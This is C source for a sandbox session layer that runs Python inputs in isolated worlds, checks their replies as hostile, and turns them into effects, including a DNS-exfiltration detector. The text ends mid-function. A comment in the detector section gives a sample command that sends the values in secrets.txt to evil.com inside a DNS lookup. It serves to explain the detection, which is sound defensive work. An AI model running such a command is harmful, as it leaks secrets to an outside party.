/*
 * cpython.c -- the session's side of a CPython world (world_cpython_ops).
 *
 * build asks the zygote for a world (zygote.c), waits for its "ready" or
 * its refusal, then sends the set-up: the path's files, the environment
 * and the teacher's names.  run_input sends one input and reads the reply
 * against a wall clock: past it, the world is killed (its warden, through
 * a pidfd: PID 1 and its pid namespace die with it) and the next input
 * gets a fresh one, as a notebook restarts its kernel.  A world that died
 * any other way is rebuilt the same way; the reply says restarted.
 *
 * Everything read from a world is hostile: frames are read one at a time,
 * each type and length checked against the caps of wire.h before its
 * payload is read, a workspace entry's path must be relative and flat in
 * each part, below its directory, after the reply's status, the total is
 * bounded, and a reply that breaks any rule ends the world.  The reply
 * becomes effects: audit events that matter (a program run, a request
 * sent, a connection, native code), then the workspace's difference from
 * before the input (entries deleted, moved, overwritten, made unreadable,
 * created), then what the code printed.  What a cap left out becomes the
 * reply's truncated, never silence.  The workspace as last seen (the
 * session's copy) is bounded by what the world's workspace can hold and
 * what the session's memory cap leaves, and keeps no entry the world
 * may no longer have (struct keep).
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "arena.h"
#include "clock.h"
#include "fakenet.h"
#include "jail.h"
#include "jail_int.h"
#include "mockfs.h"
#include "sbuf.h"
#include "wire.h"
#include "world.h"
#include "world_int.h"
#include "xalloc.h"
#include "jail_sys.h"

#define BUILD_MS	10000	/* set-up, valgrind included */
#define INTERRUPT_GRACE_MS 1000	/* Ctrl-C to the world's kill */
#define SETUP_MS	10000

struct cpy {
	int		 sock;		/* -1: no world now */
	int		 pidfd;
	unsigned	 wall_ms;
	int		 fail_at;
	int		 kind;		/* enum world_kind */
	uint64_t	 mem;		/* its budget (world_memory) */
	struct mfs	*files;		/* the workspace as last seen */
	char		**env;
	size_t		 nenv;
	char		*setup;
	bool		 died;		/* the last world died: restart */
	char		**names;	/* __main__'s names after the last input */
	size_t		 nnames;
	char		**lits;		/* name, repr, name, repr...: those
					   bound to plain data (wire.h's L) */
	size_t		 nlits;		/* pairs */
	uint64_t	 nonce;		/* of the input in flight */
	/* An input started (cpy_start) and not read yet (cpy_run). */
	bool		 inflight;
	bool		 running;	/* cpy_run is reading its reply */
	bool		 interrupted;	/* Ctrl-C was passed on to it */
	bool		 restarted;	/* its world was rebuilt to run it */
	double		 started_ms;	/* its wall clock's start */
	enum world_status start_status;	/* OK, or what sending it met */
	const char	*start_error;	/* (in the input's arena) */
	/* Where its live output goes while it runs (world_input.live). */
	void		(*live)(void *ctx, const char *stream,
			    const char *text, size_t len);
	void		*live_ctx;
	size_t		 live_bytes;	/* told this input */
	/* Its live frames taken while another world's reply was read
	 * (pump_one): a frame begun, or the first header of its reply,
	 * held for read_reply. */
	struct pump {
		char	 head[WIRE_HEADER];
		size_t	 nhead;		/* of head read */
		size_t	 hoff;		/* of a held head, given back */
		bool	 held;		/* head is the reply's, not live */
		uint32_t len;		/* a live frame's payload */
		size_t	 got;
		char	 buf[WW_MAX_LIVE + 1];
	} pump;
	struct fakenet	 net;		/* the reader of its captures */
	struct gvisor_proc gv;		/* a gVisor world's runsc */
	/* Connections already told, with the bytes they had then: one
	 * left open is sent again as a snapshot after every input. */
	struct { uint32_t conn; uint64_t bytes; } told[64];
	size_t		 ntold;
};

/* A reply as read, before it becomes effects. */
struct raw_event {
	const char	*name;
	const char	*args[6];
	size_t		 arglen[6];
	size_t		 nargs;
};

struct raw {
	bool		 has_status, has_end;
	uint32_t	 status;
	const char	*result, *message, *error, *output;
	const char	*names;		/* NUL-separated, names_len bytes */
	size_t		 names_len;
	bool		 has_names;
	const char	*lits;		/* the L frame, lits_len bytes */
	size_t		 lits_len;
	bool		 has_lits;
	size_t		 output_len;
	uint32_t	 tail_kind;	/* the output's last tail bytes of
					   text are what the prompt wrote
					   (wire.h's e) */
	uint32_t	 tail;
	struct raw_event events[WW_MAX_EVENTS];
	size_t		 nevents;
	uint32_t	 dropped;
	struct mfs	*files;
	bool		 truncated;	/* the caps left entries out: */
	uint32_t	 left;		/* how many */
	const char	*unsent;	/* the first of their paths, each
					   NUL-terminated */
	size_t		 unsent_len;
	uint64_t	 cut[WW_CUT__COUNT];	/* what a cap cut held */
	enum world_step	 refused_step;
	int		 refused_err;
	const char	*refused_detail;
	bool		 ready;
	bool		 ended;		/* K: the interpreter is gone */
	int		 wstatus;	/* its wait status, then */
};

/* raw.status when the interpreter ended during the input (not sent). */
#define RAW_ENDED	100u

/* How the interpreter ended, from its wait status: "exited with status
 * 2", "was killed by SIGSEGV". */
static const char *
ended_how(struct arena *a, int ws)
{
	const char *abbrev;

	if (WIFEXITED(ws))
		return arena_printf(a, "exited with status %d",
		    WEXITSTATUS(ws));
	if (WIFSIGNALED(ws)) {
		abbrev = sigabbrev_np(WTERMSIG(ws));
		return abbrev != NULL ? arena_printf(a, "was killed by SIG%s",
		    abbrev) : arena_printf(a, "was killed by signal %d",
		    WTERMSIG(ws));
	}
	return "ended";
}

/* LOST: the stream ended; BAD: it broke the protocol. */
enum read_end { READ_OK, READ_TIMEOUT, READ_LOST, READ_BAD };

static void
kill_world(struct cpy *c)
{
	fakenet_down(&c->net);	/* closes the capture pipes */
	c->ntold = 0;
	memset(&c->net, 0, sizeof c->net);
	c->net.fd = c->net.ctl = -1;
	if (c->pidfd >= 0) {
		(void)syscall(__NR_pidfd_send_signal, c->pidfd, SIGKILL, NULL,
		    0);
		close(c->pidfd);
	}
	if (c->sock >= 0)
		close(c->sock);
	c->pidfd = c->sock = -1;
	gvisor_reap(&c->gv);	/* (runsc is not the zygote's child) */
	janitor_world_ended();	/* (its cgroup, once it is empty) */
}

/*
 * Ctrl-C.  The UI's SIGINT handler calls world_interrupt() (world.c: it
 * only sets a flag, so a signal handler may call it); a read of an input's reply
 * that sees it tells its world once -- WORLD_INTERRUPT_SIGNAL to the
 * world's warden, which PID 1 turns into SIGINT for every process of the
 * world, as a terminal's Ctrl-C reaches its foreground programs -- and
 * then waits INTERRUPT_GRACE_MS more at most: code that does not end by
 * then (a long computation in C, a handler that swallows
 * KeyboardInterrupt forever) loses its world, as at the wall clock.
 * Several worlds running one input side by side are each told.
 */
/* Tell the world of c's running input that Ctrl-C was pressed, once;
 * the deadline becomes the grace period's end when that is sooner. */
static void
interrupt_world(struct cpy *c, double *deadline)
{
	double end;

	if (!c->running || c->interrupted || !world_interrupt_pending())
		return;
	c->interrupted = true;
	if (c->kind == WORLD_KIND_GVISOR)
		gvisor_interrupt(&c->gv);	/* (runsc passes no signal) */
	else if (c->pidfd >= 0)
		(void)syscall(__NR_pidfd_send_signal, c->pidfd,
		    WORLD_INTERRUPT_SIGNAL, NULL, 0);
	end = clock_ms() + INTERRUPT_GRACE_MS;
	if (end < *deadline)
		*deadline = end;
}

/*
 * Every column live.  The paths' worlds run side by side but their
 * replies are read in the paths' order; while one is read, the others'
 * live frames are taken as they arrive (pump_one, never blocking) and
 * told at once, so their columns fill too.  A world's reply is not read
 * here: the first header that is not a live frame is held in its pump
 * for its own read_reply, which also finishes a live frame begun.
 */
#define MAX_PUMPED	8
static struct cpy *pumped[MAX_PUMPED];	/* started, not read yet */

static void
pump_add(struct cpy *c)
{
	size_t i;

	memset(&c->pump, 0, offsetof(struct pump, buf));
	for (i = 0; i < MAX_PUMPED; i++)
		if (pumped[i] == NULL) {
			pumped[i] = c;
			return;
		}
}

static void
pump_drop(struct cpy *c)
{
	size_t i;

	for (i = 0; i < MAX_PUMPED; i++)
		if (pumped[i] == c)
			pumped[i] = NULL;
}

static void
live_tell(struct cpy *c, const char *pay, size_t len)
{
	if (len < 1 || (pay[0] != 'o' && pay[0] != 'e'))
		return;		/* (its own read would call it broken) */
	if (c->live != NULL && c->live_bytes < WW_MAX_OUTPUT) {
		c->live_bytes += len - 1;
		c->live(c->live_ctx, pay[0] == 'e' ? "stderr" : "stdout",
		    pay + 1, len - 1);
	}
}

static bool live_head(const char *head, uint32_t *len);

/* Take what c's socket holds of live frames now, without waiting. */
static void
pump_one(struct cpy *c)
{
	struct pump *pu = &c->pump;
	ssize_t r;

	while (!pu->held && c->sock >= 0) {
		if (pu->nhead < WIRE_HEADER) {
			r = recv(c->sock, pu->head + pu->nhead, WIRE_HEADER -
			    pu->nhead, MSG_DONTWAIT);
			if (r <= 0)
				return;	/* (nothing now, or its read says) */
			pu->nhead += (size_t)r;
			if (pu->nhead < WIRE_HEADER)
				return;
			if (!live_head(pu->head, &pu->len)) {
				pu->held = true;	/* the reply's */
				return;
			}
			pu->got = 0;
		}
		r = recv(c->sock, pu->buf + pu->got, pu->len - pu->got,
		    MSG_DONTWAIT);
		if (r <= 0)
			return;
		pu->got += (size_t)r;
		if (pu->got < pu->len)
			return;
		live_tell(c, pu->buf, pu->len);
		pu->nhead = 0;
	}
}

static enum read_end read_n(struct cpy *c, char *p, size_t n,
    double *deadline);

/* Before c's own reply is read: a live frame the pump began is read to
 * its end and told. */
static enum read_end
pump_finish(struct cpy *c, double *deadline)
{
	struct pump *pu = &c->pump;
	struct pump saved;
	enum read_end end;

	pump_drop(c);
	if (pu->held || pu->nhead == 0)
		return READ_OK;
	saved = *pu;
	pu->nhead = 0;		/* (read_n reads the socket itself now) */
	if (saved.nhead < WIRE_HEADER) {
		if ((end = read_n(c, saved.head + saved.nhead, WIRE_HEADER -
		    saved.nhead, deadline)) != READ_OK)
			return end;
		if (!live_head(saved.head, &saved.len)) {
			memcpy(pu->head, saved.head, WIRE_HEADER);
			pu->nhead = WIRE_HEADER;
			pu->hoff = 0;
			pu->held = true;
			return READ_OK;
		}
		saved.got = 0;
	}
	if ((end = read_n(c, pu->buf, saved.len - saved.got, deadline)) !=
	    READ_OK)
		return end;
	memmove(pu->buf + saved.got, pu->buf, saved.len - saved.got);
	memcpy(pu->buf, saved.buf, saved.got);
	live_tell(c, pu->buf, saved.len);
	return READ_OK;
}

/* Read exactly n bytes before the deadline (what is there already is
 * read even after it: a world that answered in time while the session
 * read another path's reply is not late).  A header the pump held comes
 * first; meanwhile the other started worlds' live frames are taken. */
static enum read_end
read_n(struct cpy *c, char *p, size_t n, double *deadline)
{
	struct pump *pu = &c->pump;

	if (pu->held && n > 0) {
		size_t k = pu->nhead - pu->hoff < n ? pu->nhead - pu->hoff : n;
		memcpy(p, pu->head + pu->hoff, k);
		pu->hoff += k;
		p += k;
		n -= k;
		if (pu->hoff == pu->nhead)
			pu->held = false, pu->nhead = pu->hoff = 0;
	}
	while (n > 0) {
		struct pollfd pfd[1 + MAX_PUMPED] = { { c->sock, POLLIN, 0 } };
		struct cpy *who[1 + MAX_PUMPED] = { c };
		double left;
		ssize_t r;
		int rc, np = 1, i;

		for (i = 0; i < MAX_PUMPED; i++)
			if (pumped[i] != NULL && pumped[i] != c &&
			    pumped[i]->sock >= 0 && !pumped[i]->pump.held) {
				who[np] = pumped[i];
				pfd[np++] = (struct pollfd){ pumped[i]->sock,
				    POLLIN, 0 };
			}
		interrupt_world(c, deadline);
		left = *deadline - clock_ms();
		/* (a wake every 100 ms sees a Ctrl-C whose signal came
		 * between the check and the poll) */
		rc = poll(pfd, (nfds_t)np, left <= 0 ? 0 : left > 100 ? 100 :
		    (int)left + 1);
		if (rc == -1 && errno == EINTR)
			continue;
		for (i = 1; rc > 0 && i < np; i++)
			if (pfd[i].revents != 0)
				pump_one(who[i]);
		if (rc <= 0 || pfd[0].revents == 0) {
			if (rc <= 0 && left <= 0)
				return READ_TIMEOUT;
			continue;
		}
		r = read(c->sock, p, n);
		if (r < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			return READ_LOST;
		p += r;
		n -= (size_t)r;
	}
	return READ_OK;
}

/* What a reply's frame may carry (jail_wire.h's wire_head checks it
 * before its payload is read). */
static struct wire_len
reply_rule(enum ww_type type, const void *ctx)
{
	(void)ctx;
	switch (type) {
	case WW_READY: case WW_END:
		return (struct wire_len){ 0, 0 };
	case WW_TRUNCATED:	return (struct wire_len){ 0, 4 + WW_MAX_UNSENT };
	case WW_REFUSE:		return (struct wire_len){ 0, 8 + WW_MAX_DETAIL };
	case WW_STATUS:		return (struct wire_len){ 12, 12 };
	case WW_DROPPED:	return (struct wire_len){ 4, 4 };
	case WW_TAIL:		return (struct wire_len){ 8, 8 };
	case WW_ENDED:		return (struct wire_len){ 4, 4 };
	case WW_RESULT:		return (struct wire_len){ 0, WW_MAX_RESULT };
	case WW_MESSAGE:	return (struct wire_len){ 0, WW_MAX_RESULT };
	case WW_ERROR:		return (struct wire_len){ 0, WW_MAX_ERROR };
	case WW_OUTPUT:		return (struct wire_len){ 0, WW_MAX_OUTPUT };
	case WW_LIVE:		return (struct wire_len){ 1, WW_MAX_LIVE + 1 };
	case WW_EVENT:		return (struct wire_len){ 0, WW_MAX_EVENT };
	case WW_NAMES:		return (struct wire_len){ 0, WW_MAX_NAMES };
	case WW_LITERALS_F:	return (struct wire_len){ 0, WW_MAX_LITERALS };
	case WW_FILE:
		return (struct wire_len){ 0, 8 + WW_MAX_PATH +
		    WW_MAX_FILE_BYTES };
	case WW_CUT:		return (struct wire_len){ 12, 12 };
	default:		return WIRE_REJECT;
	}
}

/* A live frame's header (pump_one, pump_finish): true when head is one,
 * with its length in *len. */
static bool
live_head(const char *head, uint32_t *len)
{
	struct wire_frame f;

	if (!wire_head(head, reply_rule, NULL, &f) || f.type != WW_LIVE)
		return false;
	*len = f.len;
	return true;
}

static bool
parse_event(struct arena *a, const char *p, size_t len, struct raw_event *e)
{
	const char *nul = memchr(p, '\0', len);
	size_t off;

	if (nul == NULL || nul == p)
		return false;
	e->name = arena_strndup(a, p, (size_t)(nul - p));
	off = (size_t)(nul - p) + 1;
	e->nargs = 0;
	while (off < len) {
		uint16_t n;
		if (len - off < 2)
			return false;
		memcpy(&n, p + off, 2);
		off += 2;
		if (n > len - off)
			return false;
		if (e->nargs < sizeof e->args / sizeof e->args[0]) {
			e->args[e->nargs] = arena_strndup(a, p + off, n);
			e->arglen[e->nargs++] = n;
		}
		off += n;
	}
	return true;
}

/*
 * One workspace entry (wire.h's F frame) into r->files, as the mfs names
 * it ("dir/" for a directory); NULL when it breaks a rule: a path that
 * is not a relative path of flat names within the depth, a kind with
 * data it may not have, an entry twice, a nested entry whose directory
 * was not sent before it, past the count or the bytes.  *dl receives
 * its data's length.
 */
static const char *
file_frame(struct arena *a, struct raw *r, const char *pay, uint32_t len,
    size_t nfiles, uint64_t file_bytes, uint64_t *dl)
{
	uint32_t plen, mode;
	const char *path, *slash;
	char *name;
	size_t i;

	if (len < 8)
		return NULL;
	memcpy(&plen, pay, 4);
	memcpy(&mode, pay + 4, 4);
	path = pay + 8;
	if (plen > len - 8 || !ww_path_ok(path, plen) ||
	    nfiles == WW_MAX_FILES)
		return NULL;
	*dl = len - 8 - plen;
	if (*dl > WW_MAX_FILE_BYTES - file_bytes ||
	    (*dl > 0 && (!(S_ISREG(mode) || S_ISLNK(mode)) ||
	    (mode & WW_UNREADABLE))) ||
	    (mode & ~(WW_UNREADABLE | S_IFMT | 07777)) != 0 ||
	    !(S_ISREG(mode) || S_ISDIR(mode) || S_ISLNK(mode) ||
	    S_ISFIFO(mode) || S_ISSOCK(mode) || S_ISCHR(mode) ||
	    S_ISBLK(mode)))
		return NULL;
	name = arena_printf(a, "%.*s%s", (int)plen, path,
	    S_ISDIR(mode) ? "/" : "");
	for (i = plen, slash = NULL; i > 0 && slash == NULL; i--)
		if (path[i - 1] == '/')
			slash = path + i - 1;
	if (mfs_exists(r->files, name) || (S_ISDIR(mode) ?
	    mfs_exists(r->files, arena_strndup(a, path, plen)) :
	    mfs_exists(r->files, arena_printf(a, "%s/", name))))
		return NULL;	/* twice, or as a file and a directory */
	if (slash != NULL && !mfs_exists(r->files, arena_strndup(a, path,
	    (size_t)(slash - path) + 1)))
		return NULL;	/* its directory was not sent first */
	mfs_put(r->files, name, path + plen, (size_t)*dl);
	mfs_set_mode(r->files, name, mode & ~WW_UNREADABLE,
	    (mode & WW_UNREADABLE) != 0);
	return name;
}

/*
 * Read frames until the reply ends (E, or Y/R after a build).  Every
 * type and length is checked before the payload is read.
 */
static enum read_end
read_reply(struct cpy *c, double deadline, struct arena *a, struct raw *r)
{
	uint64_t file_bytes = 0;
	size_t nfiles = 0;

	memset(r, 0, sizeof *r);
	r->files = mfs_new();
	for (;;) {
		char head[WIRE_HEADER], *pay;
		struct wire_frame f;
		uint32_t len;
		enum read_end end;

		end = read_n(c, head, sizeof head, &deadline);
		if (end != READ_OK)
			return end;
		if (!wire_head(head, reply_rule, NULL, &f))
			return READ_BAD;
		len = f.len;
		if (f.type == WW_LIVE) {
			/* Output as it is written, for a screen to show now
			 * (world_input.live); the reply's O frame is what the
			 * record keeps.  Not in the arena: a loop printing
			 * until the wall clock sends many. */
			static char live[WW_MAX_LIVE + 1];
			if ((end = read_n(c, live, len, &deadline)) != READ_OK)
				return end;
			if (live[0] != 'o' && live[0] != 'e')
				return READ_BAD;
			live_tell(c, live, len);
			continue;
		}
		pay = arena_alloc(a, (size_t)len + 1);
		if ((end = read_n(c, pay, len, &deadline)) != READ_OK)
			return end;
		pay[len] = '\0';
		switch (f.type) {
		case WW_READY:
			r->ready = true;
			return READ_OK;
		case WW_REFUSE: {
			uint32_t step;
			int32_t err;
			if (len < 8)
				return READ_BAD;
			memcpy(&step, pay, 4);
			memcpy(&err, pay + 4, 4);
			if (step == WORLD_STEP_NONE ||
			    step >= WORLD_STEP__COUNT || err <= 0 ||
			    err > 4095 || memchr(pay + 8, '\0', len - 8))
				return READ_BAD;
			r->refused_step = (enum world_step)step;
			r->refused_err = err;
			r->refused_detail = pay + 8;
			return READ_OK;
		}
		case WW_STATUS: {
			uint64_t nonce;
			memcpy(&r->status, pay, 4);
			memcpy(&nonce, pay + 4, 8);
			if (r->status > WW_NOMEM || r->has_status ||
			    nonce != c->nonce)
				return READ_BAD;	/* forged, or stale */
			r->has_status = true;
			break;
		}
		case WW_RESULT:
			r->result = pay;
			break;
		case WW_MESSAGE:
			r->message = pay;
			break;
		case WW_ERROR:
			r->error = pay;
			break;
		case WW_OUTPUT:
			r->output = pay;
			r->output_len = len;
			break;
		case WW_TAIL:
			/* (after the output it points into) */
			memcpy(&r->tail_kind, pay, 4);
			memcpy(&r->tail, pay + 4, 4);
			/* (text bytes: checked against the text, once
			 * parsed) */
			if (!r->has_status || r->tail_kind >= WW_TAIL__COUNT)
				return READ_BAD;
			break;
		case WW_EVENT:
			if (r->nevents == WW_MAX_EVENTS ||
			    !parse_event(a, pay, len, &r->events[r->nevents]))
				return READ_BAD;
			r->nevents++;
			break;
		case WW_NAMES:
			if (len > 0 && pay[len - 1] != '\0')
				return READ_BAD;
			r->names = pay;
			r->names_len = len;
			r->has_names = true;
			break;
		case WW_LITERALS_F: {
			size_t off = 0, k = 0;
			/* pairs of NUL-terminated strings, after the status */
			if (!r->has_status || (len > 0 && pay[len - 1] != '\0'))
				return READ_BAD;
			while (off < len) {
				off += strlen(pay + off) + 1;
				k++;
			}
			if (k % 2 != 0)
				return READ_BAD;
			r->lits = pay;
			r->lits_len = len;
			r->has_lits = true;
			break;
		}
		case WW_DROPPED:
			memcpy(&r->dropped, pay, 4);
			break;
		case WW_FILE: {
			uint64_t dl;
			const char *name;
			/* (the workspace follows the status, whose nonce the
			 * code cannot know: an entry before it is forged) */
			if (!r->has_status || (name = file_frame(a, r, pay, len,
			    nfiles, file_bytes, &dl)) == NULL)
				return READ_BAD;
			file_bytes += dl;
			nfiles++;
			break;
		}
		case WW_TRUNCATED:
			if (len < 4 || r->truncated || !r->has_status ||
			    (len > 4 && pay[len - 1] != '\0'))
				return READ_BAD;
			memcpy(&r->left, pay, 4);
			r->truncated = true;
			r->unsent = pay + 4;
			r->unsent_len = len - 4;
			break;
		case WW_CUT: {
			uint32_t what;
			uint64_t held;
			memcpy(&what, pay, 4);
			memcpy(&held, pay + 4, 8);
			if (what >= WW_CUT__COUNT)
				return READ_BAD;
			r->cut[what] = held;
			break;
		}
		case WW_END:
			if (!r->has_status)
				return READ_BAD;
			r->has_end = true;
			return READ_OK;
		case WW_ENDED: {
			/* PID 1's: the interpreter is gone, and what it left
			 * follows (the status of this reply) */
			int32_t ws;
			if (r->has_status || r->ended)
				return READ_BAD;
			memcpy(&ws, pay, 4);
			r->ended = true;
			r->wstatus = ws;
			r->has_status = true;
			r->status = RAW_ENDED;
			break;
		}
		default:	/* (reply_rule let no other type through) */
			return READ_BAD;
		}
	}
}

static void
raw_free(struct raw *r)
{
	mfs_free(r->files);
	r->files = NULL;
}

/* The jail's framing, sent without SIGPIPE: a world that died must not
 * take the session with it. */
static bool
send_all(int fd, const char *p, size_t n)
{
	while (n > 0) {
		ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0)
			return false;
		p += w;
		n -= (size_t)w;
	}
	return true;
}

static bool
send_frame(struct cpy *c, enum ww_type type, const void *a, size_t alen,
    const void *b, size_t blen)
{
	char head[WIRE_HEADER];
	uint32_t len = (uint32_t)(alen + blen);

	if (alen + blen > UINT32_MAX)
		return false;
	head[0] = (char)type;
	memcpy(head + 1, &len, 4);
	return send_all(c->sock, head, sizeof head) &&
	    (alen == 0 || send_all(c->sock, a, alen)) &&
	    (blen == 0 || send_all(c->sock, b, blen));
}

/* An input frame: flags, a fresh nonce its reply must carry, source. */
static bool
send_input(struct cpy *c, char flags, const char *src, size_t len)
{
	char head[9];

	if (getrandom(&c->nonce, sizeof c->nonce, 0) != sizeof c->nonce)
		c->nonce = (uint64_t)clock_ms() * 2654435761u ^ c->nonce;
	head[0] = flags;
	memcpy(head + 1, &c->nonce, 8);
	return send_frame(c, WW_INPUT, head, sizeof head, src, len);
}

/* Ask the zygote for a world and wait until it is ready. */
static bool
spawn(struct cpy *c, struct arena *a, char **err)
{
	struct raw r;
	int sock, cap_rd, ctl_wr;
	pid_t pid;
	enum read_end end;

	/* what the world leaves on disk goes, however the session ends */
	(void)janitor_start();
	if (c->kind == WORLD_KIND_GVISOR) {
		/* runsc, not the zygote, starts it (gvisor.c) */
		char why[512] = "";
		int sv[2];

		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) ==
		    -1) {
			*err = xasprintf("socketpair: %s", strerror(errno));
			return false;
		}
		if (gvisor_spawn(sv[1], c->fail_at, &c->gv, &c->pidfd, why,
		    sizeof why) == -1) {
			*err = xasprintf("gVisor could not start: %s", why);
			close(sv[0]);
			close(sv[1]);
			return false;
		}
		close(sv[1]);
		c->sock = sv[0];
		goto ready;
	}
	/* the world's socket, and the fake internet's capture and sync
	 * pipes, whose other ends only the world's sink holds: the zygote
	 * makes them with the world (which it may have built already) */
	if (zygote_spawn(c->fail_at, c->kind, c->mem, &sock, &cap_rd, &ctl_wr,
	    &c->pidfd, &pid) == -1) {
		const char *why = zygote_failure();
		*err = xasprintf("the zygote could not start a world: %s%s%s",
		    strerror(errno), *why ? ": " : "", why);
		return false;
	}
	fakenet_attach(&c->net, cap_rd, ctl_wr);
	c->sock = sock;
ready:
	end = read_reply(c, clock_ms() + BUILD_MS, a, &r);
	raw_free(&r);
	if (end == READ_OK && r.ready)
		return true;
	if (end == READ_OK && r.refused_err != 0)
		*err = xasprintf("world set-up failed at %s%s%s: %s",
		    world_step_name(r.refused_step),
		    r.refused_detail[0] ? ": " : "", r.refused_detail,
		    strerror(r.refused_err));
	else if (c->kind == WORLD_KIND_GVISOR) {
		/* what runsc said, once it has said it all */
		char why[512];

		if (end == READ_LOST && c->gv.pid > 0) {
			/* (it closed the socket: runsc is ending) */
			while (waitpid(c->gv.pid, NULL, 0) == -1 &&
			    errno == EINTR)
				;
			c->gv.pid = 0;
		}
		gvisor_failure(&c->gv, why, sizeof why);
		*err = xasprintf("gVisor's sandbox %s during set-up%s%s",
		    end == READ_TIMEOUT ? "did not answer" : "ended",
		    why[0] ? ": runsc: " : "", why);
	} else
		*err = xasprintf("the world %s during set-up",
		    end == READ_TIMEOUT ? "did not answer" : "ended");
	kill_world(c);
	return false;
}

/* What every replica's processes see, before the scenario's own. */
static const char *const base_env[] = {
	"HOME=" WORLD_HOME, "USER=agent", "LOGNAME=agent", "SHELL=/bin/sh",
	"PATH=/usr/local/bin:/usr/bin:/bin", "LANG=C.UTF-8",
	"PWD=" WORLD_WORKSPACE,
};

/* Spawn, then seed files, environment and names; the reply's files are
 * the workspace as the first input will see it. */
static bool
start(struct cpy *c, char **err)
{
	struct arena *a = arena_new();
	struct raw r;
	size_t i, n;
	char flags = WW_SETUP;
	bool ok = false;
	enum read_end end;

	*err = NULL;
	if (!spawn(c, a, err))
		goto out;
	n = mfs_count(c->files);
	for (i = 0; i < n; i++) {
		/* (wire.h: a directory's path without its '/') */
		const char *name = mfs_name(c->files, i), *data;
		uint32_t namelen = (uint32_t)strlen(name);
		uint32_t mode = mfs_mode(c->files, i);
		char head[8 + WW_MAX_PATH];
		size_t len;

		if (mfs_is_dir_name(name))
			namelen--;
		if (!ww_path_ok(name, namelen))
			continue;
		data = mfs_get(c->files, name, &len);
		memcpy(head, &namelen, 4);
		memcpy(head + 4, &mode, 4);
		memcpy(head + 8, name, namelen);
		if (!send_frame(c, WW_PUT, head, 8 + namelen, data, len))
			goto lost;
	}
	if (!send_frame(c, WW_ENV, NULL, 0, NULL, 0))
		goto lost;
	for (i = 0; i < sizeof base_env / sizeof base_env[0]; i++)
		if (!send_frame(c, WW_ENV, base_env[i], strlen(base_env[i]),
		    NULL, 0))
			goto lost;
	for (i = 0; i < c->nenv; i++)
		if (!send_frame(c, WW_ENV, c->env[i], strlen(c->env[i]), NULL,
		    0))
			goto lost;
	if (!send_input(c, flags, c->setup ? c->setup : "",
	    c->setup ? strlen(c->setup) : 0))
		goto lost;
	end = read_reply(c, clock_ms() + SETUP_MS, a, &r);
	if (end != READ_OK || !r.has_end) {
		raw_free(&r);
		goto lost;
	}
	if (r.status != WW_OK) {
		*err = xasprintf("the set-up names failed: %s",
		    r.error ? r.error : "an error");
		raw_free(&r);
		kill_world(c);
		goto out;
	}
	raw_free(&r);
	ok = true;
	goto out;
lost:
	*err = xasprintf("the world ended during set-up");
	kill_world(c);
out:
	arena_free(a);
	return ok;
}

/* ---------------------------------------------------------------- */
/* The reply as effects                                               */
/* ---------------------------------------------------------------- */

/* A piece of the world's data as it would ride in a DNS name. */
struct data_form {
	const char	*s;		/* lower-cased */
	size_t		 n;
	const char	*piece;		/* the data itself */
	const char	*how;		/* "" (as it is), "hex", "base32"... */
};

struct effects {
	struct arena		*a;
	struct world_effect	*v;
	size_t			 n, cap;
	const char		*source;	/* of the effects added now */
	bool			 captured;	/* the sink saw a connection */
	struct cpy		*c;		/* on_capture's world */
	struct data_form	*forms;		/* made at the first DNS question */
	size_t			 nforms;
	bool			 has_forms;
};

static void
add_effect(struct effects *e, const char *op, const char *target,
    const char *category, const char *text, const char *source)
{
	size_t i;

	for (i = 0; i < e->n; i++)	/* once each */
		if (strcmp(e->v[i].op, op) == 0 &&
		    strcmp(e->v[i].target, target) == 0 &&
		    strcmp(e->v[i].text, text) == 0) {
			/* the sink saw what the audit hook announced */
			if (source != NULL && strcmp(source, "sink") == 0)
				e->v[i].source = source;
			return;
		}
	if (e->n == e->cap) {
		size_t cap = e->cap ? e->cap * 2 : 16;
		e->v = arena_grow(e->a, e->v, e->cap, cap, sizeof *e->v);
		e->cap = cap;
	}
	e->v[e->n].op = op;
	e->v[e->n].target = target;
	e->v[e->n].category = category;
	e->v[e->n].text = text;
	e->v[e->n].source = source;
	e->n++;
}

static void
effect(struct effects *e, const char *op, const char *target,
    const char *category, const char *text)
{
	add_effect(e, op, target, category, text, e->source);
}

static bool
is_event(const struct raw_event *ev, const char *name)
{
	return strcmp(ev->name, name) == 0;
}

static const char *
arg(const struct raw_event *ev, size_t i)
{
	return i < ev->nargs ? ev->args[i] : "";
}

/* Data as the trace shows it: the first 200 bytes. */
static const char *
shown(struct arena *a, const char *s)
{
	return arena_printf(a, "%.200s", s);
}

static bool
is_write_mode(const char *mode)
{
	return strpbrk(mode, "wax+") != NULL;
}

/*
 * DNS exfiltration: data leaves in the name a lookup asks for
 * (`getent hosts $(cut -d= -f2 secrets.txt).evil.com`): the resolver
 * delivers the question, and so the data, to whoever serves the domain.
 * The world's data is what the session gave it: the values of its
 * environment and the workspace's files as they were before the input
 * (the first DATA_SCAN bytes of each).  Its pieces are the runs of
 * characters a DNS label can hold, at least DATA_PIECE_MIN long (shorter
 * runs are ordinary words of ordinary names: "report", "summary"); a
 * name carries a piece when it holds it as it is or hex-, base32- or
 * base64-encoded (standard or URL-safe), case aside, in one label or
 * across labels.  An encoded piece counts by the characters that do not
 * depend on its neighbours, at each alignment (as tests/corpus/corpuslib.py
 * finds the secret in the ground truth's captures).
 */
#define DATA_PIECE_MIN	8
#define DATA_PIECE_MAX	FAKENET_NAME_MAX
#define DATA_PIECES	256	/* looked for, at most */
#define DATA_SCAN	65536	/* bytes of a file looked through */

static bool
is_label_char(unsigned char ch)
{
	return (ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z') ||
	    (ch >= '0' && ch <= '9') || ch == '-' || ch == '_';
}

static char
lower(char ch)
{
	return ch >= 'A' && ch <= 'Z' ? (char)(ch - 'A' + 'a') : ch;
}

static void
add_form(struct effects *e, const char *s, size_t n, const char *piece,
    const char *how)
{
	struct data_form *f;
	char *l;
	size_t i;

	if (n < DATA_PIECE_MIN || n > DATA_PIECE_MAX)
		return;
